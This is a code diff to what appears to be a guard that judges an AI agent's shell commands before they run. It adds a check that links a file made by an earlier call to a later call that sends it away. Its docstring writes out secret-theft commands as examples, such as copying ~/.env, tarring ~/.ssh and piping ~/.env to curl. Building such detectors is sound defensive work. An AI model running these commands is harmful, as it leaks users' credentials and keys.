@@ -28,7 +28,7 @@ from adr.actions import Action, ActionKind, Evidence, Finding, RuleAction, Sever
 from adr.daemon.cpuclock import decision_clock
 from adr.engine.core import Budget, parse_line
 from adr.shell import runs as R
-from adr.shell.parse import MAX_SOURCE
+from adr.shell.parse import MAX_SOURCE, files_sent
 
 _SPECIAL = ("/proc/", "/sys/", "/dev/")
 # Rules that ask because a value is known only at run time. On an agent's one-liner that hides the
@@ -217,6 +217,8 @@ class _Walk:
                 self.defs.setdefault(d.name, (d, "defined on the same line"))
         if self.vars and depth == 0:
             self.variables(parsed, text, cwd, depth, note)
+        if self.memory is not None:
+            self.sends(parsed, cwd, depth, note)
         runs = R.runs_of(parsed, cwd, self.home, frozenset(self.defs))
         if not runs:
             return
@@ -255,6 +257,22 @@ class _Walk:
             self.add(_annotate(f, note))
         if follow and not self.out_of_time(command, note):
             self.line(command, cwd, depth, note)
+
+    def sends(self, parsed: Any, cwd: str, depth: int, note: str) -> None:
+        """A file an earlier call made (`cp ~/.env /tmp/n`, `env > /tmp/e`, `tar czf /tmp/k.tgz ~/.ssh`)
+        and this line sends away is judged as the pipe the two calls amount to: `cat ~/.env | curl -T -
+        URL`, in the directory the earlier call ran in. (On one line, adr/shell/parse.py does the same.)"""
+        for c in parsed.commands[:64]:
+            if not c.argv:
+                continue
+            for f, sender in files_sent(c.program, c.args, c.redirects, c.stdin_text):
+                path = R.resolve(f, cwd, self.home)
+                w = self.recall(path) if path else None
+                if w is None or not w.producer:  # (any session's: the file stays on disk between them)
+                    continue
+                self.judge(w.producer + " | " + sender, w.producer_cwd or cwd, depth + 1,
+                           _note(note, f"sends {f}, {w.origin(self.session)} by `{w.producer[:120]}`"),
+                           follow=False)
 
     def out_of_time(self, command: str, note: str) -> bool:
         """The walk's own CPU-time bound, or the decision's budget, is spent: the rest asks."""
